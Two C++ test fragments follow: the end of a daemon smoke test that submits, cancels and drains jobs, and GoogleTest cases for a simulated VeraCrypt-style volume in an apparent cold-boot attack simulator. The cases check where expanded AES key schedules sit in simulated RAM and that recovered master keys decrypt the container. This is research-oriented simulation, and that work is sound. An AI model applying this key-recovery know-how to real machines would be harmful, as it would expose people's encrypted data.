                                " 2>/dev/null",
                            out);
            if (rc == 0 &&
                out.find(" cancelled ") != std::string::npos) {
                cancelled = true;
                break;
            }
            std::this_thread::sleep_for(
                std::chrono::milliseconds(20));
        }
        check(cancelled, "cancelled job reached `cancelled` state");
    }

    // Shutdown under load: another job in flight, then SIGTERM. The
    // daemon drains (cancelling the job), flushes the stats artifact
    // and exits 128+SIGTERM.
    {
        std::string out;
        rc = runCapture("\"" + client + "\" " + endpoint +
                            " attack \"" + slow_path +
                            "\" --async 2>/dev/null",
                        out);
        check(rc == 0, "load job submitted before SIGTERM");
        check(kill(daemon.pid, SIGTERM) == 0, "SIGTERM delivered");

        char line[512];
        int daemon_rc = -1;
        while (std::fgets(line, sizeof(line), daemon.pipe) !=
               nullptr) {
            if (std::strncmp(line, "daemonrc ", 9) == 0)
                daemon_rc = std::atoi(line + 9);
        }
        pclose(daemon.pipe);
        check(daemon_rc == 128 + SIGTERM,
              "daemon exited 128+SIGTERM after the drain");
    }

    // The stats artifact survived the signal path and accounts for
    // every submission: 5 accepted jobs, 3 completed, the cancelled
    // one and the drained one.
    {
        auto doc = obs::json::parseFile(stats_path);
        check(doc.has_value(), "--stats-json artifact parses");
        if (doc) {
            double completed = statValue(*doc, "serve.jobs.completed");
            double cancelled = statValue(*doc, "serve.jobs.cancelled");
            check(statValue(*doc, "serve.jobs.submitted") == 5.0,
                  "serve.jobs.submitted == 5");
            check(completed >= 3.0, "serve.jobs.completed >= 3");
            check(cancelled >= 1.0, "serve.jobs.cancelled >= 1");
            check(completed + cancelled == 5.0,
                  "every accepted job completed or cancelled");
            check(statValue(*doc, "serve.requests") > 0.0,
                  "serve.requests counted");
        }
    }

    std::remove(dump_path.c_str());
    std::remove(slow_path.c_str());
    std::remove(cli_plain.c_str());
    std::remove(srv_plain.c_str());

    if (failures) {
        std::fprintf(stderr, "%d check(s) failed\n", failures);
        return 1;
    }
    std::printf("smoke_serve: all checks passed\n");
    return 0;
}
