/**
 * @file
 * VeraCrypt-style volume tests: container format, mount/unmount
 * lifecycle, sector crypto, and the in-RAM key schedule footprint
 * the attack targets.
 */

#include <gtest/gtest.h>

#include <memory>
#include <vector>

#include "common/units.hh"
#include "crypto/aes.hh"
#include "crypto/xts.hh"
#include "dram/dram_module.hh"
#include "platform/machine.hh"
#include "volume/veracrypt_volume.hh"

namespace coldboot::volume
{
namespace
{

using platform::BiosConfig;
using platform::cpuModelByName;
using platform::Machine;

Machine
makeMachine(uint64_t seed)
{
    Machine m(cpuModelByName("i5-6400"), BiosConfig{}, 1, seed);
    m.installDimm(0, std::make_shared<dram::DramModule>(
                         dram::Generation::DDR4, MiB(1),
                         dram::DecayParams{}, seed + 1));
    m.boot();
    return m;
}

TEST(Volume, CreateHasExpectedGeometry)
{
    auto vf = VolumeFile::create("secret", 16, 1);
    EXPECT_EQ(vf.dataSectors(), 16u);
    EXPECT_EQ(vf.size(), headerBytes + 16 * sectorBytes);
    EXPECT_EQ(vf.kdfIterations(), 1000u);
}

TEST(Volume, MountWithCorrectPassphrase)
{
    Machine m = makeMachine(2);
    auto vf = VolumeFile::create("hunter2", 8, 3);
    auto mounted = MountedVolume::mount(m, vf, "hunter2", KiB(512));
    ASSERT_TRUE(mounted.has_value());
    EXPECT_TRUE(mounted->isMounted());
}

TEST(Volume, MountRejectsWrongPassphrase)
{
    Machine m = makeMachine(4);
    auto vf = VolumeFile::create("right", 8, 5);
    EXPECT_FALSE(MountedVolume::mount(m, vf, "wrong", KiB(512)));
    EXPECT_FALSE(MountedVolume::mount(m, vf, "", KiB(512)));
    EXPECT_FALSE(MountedVolume::mount(m, vf, "Right", KiB(512)));
}

TEST(Volume, SectorRoundTrip)
{
    Machine m = makeMachine(6);
    auto vf = VolumeFile::create("pw", 8, 7);
    auto mounted = MountedVolume::mount(m, vf, "pw", KiB(512));
    ASSERT_TRUE(mounted);

    std::vector<uint8_t> data(sectorBytes);
    for (size_t i = 0; i < data.size(); ++i)
        data[i] = static_cast<uint8_t>(i * 31);
    mounted->writeSector(3, data);

    std::vector<uint8_t> back(sectorBytes);
    mounted->readSector(3, back);
    EXPECT_EQ(back, data);

    // Ciphertext at rest differs from plaintext.
    auto ct = vf.sectorCiphertext(3);
    EXPECT_NE(0, memcmp(ct.data(), data.data(), sectorBytes));
}

TEST(Volume, FreshVolumeReadsZeros)
{
    Machine m = makeMachine(8);
    auto vf = VolumeFile::create("pw", 4, 9);
    auto mounted = MountedVolume::mount(m, vf, "pw", KiB(512));
    ASSERT_TRUE(mounted);
    std::vector<uint8_t> sector(sectorBytes, 0xff);
    mounted->readSector(0, sector);
    for (uint8_t b : sector)
        ASSERT_EQ(b, 0);
}

TEST(Volume, RemountSeesPersistedData)
{
    Machine m = makeMachine(10);
    auto vf = VolumeFile::create("pw", 8, 11);
    {
        auto mounted = MountedVolume::mount(m, vf, "pw", KiB(512));
        ASSERT_TRUE(mounted);
        std::vector<uint8_t> data(sectorBytes, 0x77);
        mounted->writeSector(5, data);
        mounted->unmount();
    }
    auto again = MountedVolume::mount(m, vf, "pw", KiB(256));
    ASSERT_TRUE(again);
    std::vector<uint8_t> back(sectorBytes);
    again->readSector(5, back);
    EXPECT_EQ(back, std::vector<uint8_t>(sectorBytes, 0x77));
}

TEST(Volume, MountCachesExpandedSchedulesInRam)
{
    // The attack surface: the mounted volume's 480-byte keytable in
    // machine RAM must be exactly the two expanded master keys.
    Machine m = makeMachine(12);
    auto vf = VolumeFile::create("pw", 8, 13);
    uint64_t addr = KiB(512) + 16; // deliberately not line aligned
    auto mounted = MountedVolume::mount(m, vf, "pw", addr);
    ASSERT_TRUE(mounted);

    std::vector<uint8_t> blob(MountedVolume::keytableBytes());
    m.readPhysBytes(addr, blob);

    auto master = mounted->masterKeys();
    auto data_sched = crypto::aesExpandKey(master.subspan(0, 32));
    auto tweak_sched = crypto::aesExpandKey(master.subspan(32, 32));
    ASSERT_EQ(blob.size(), data_sched.size() + tweak_sched.size());
    EXPECT_EQ(0, memcmp(blob.data(), data_sched.data(), 240));
    EXPECT_EQ(0, memcmp(blob.data() + 240, tweak_sched.data(), 240));
}

TEST(Volume, UnmountScrubsSchedules)
{
    Machine m = makeMachine(14);
    auto vf = VolumeFile::create("pw", 8, 15);
    uint64_t addr = KiB(512);
    auto mounted = MountedVolume::mount(m, vf, "pw", addr);
    ASSERT_TRUE(mounted);
    mounted->unmount();
    EXPECT_FALSE(mounted->isMounted());

    std::vector<uint8_t> blob(MountedVolume::keytableBytes());
    m.readPhysBytes(addr, blob);
    for (uint8_t b : blob)
        ASSERT_EQ(b, 0);
}

TEST(Volume, MasterKeysDifferPerVolume)
{
    Machine m = makeMachine(16);
    auto v1 = VolumeFile::create("pw", 4, 17);
    auto v2 = VolumeFile::create("pw", 4, 18);
    auto m1 = MountedVolume::mount(m, v1, "pw", KiB(256));
    auto m2 = MountedVolume::mount(m, v2, "pw", KiB(512));
    ASSERT_TRUE(m1);
    ASSERT_TRUE(m2);
    EXPECT_NE(0, memcmp(m1->masterKeys().data(),
                        m2->masterKeys().data(), 64));
}

TEST(Volume, RecoveredMasterKeysDecryptTheVolume)
{
    // The attacker's endgame: given only the master keys and the
    // container, decrypt the data with an independently constructed
    // XTS context.
    Machine m = makeMachine(20);
    auto vf = VolumeFile::create("pw", 8, 21);
    auto mounted = MountedVolume::mount(m, vf, "pw", KiB(512));
    ASSERT_TRUE(mounted);
    std::vector<uint8_t> secret(sectorBytes, 0);
    const char *msg = "the plans are in sector two";
    memcpy(secret.data(), msg, strlen(msg));
    mounted->writeSector(2, secret);

    auto master = mounted->masterKeys();
    crypto::XtsAes xts(master.subspan(0, 32), master.subspan(32, 32));
    std::vector<uint8_t> plain(sectorBytes);
    xts.decryptSector(2, vf.sectorCiphertext(2), plain);
    EXPECT_EQ(0, memcmp(plain.data(), msg, strlen(msg)));
}

} // anonymous namespace
} // namespace coldboot::volume
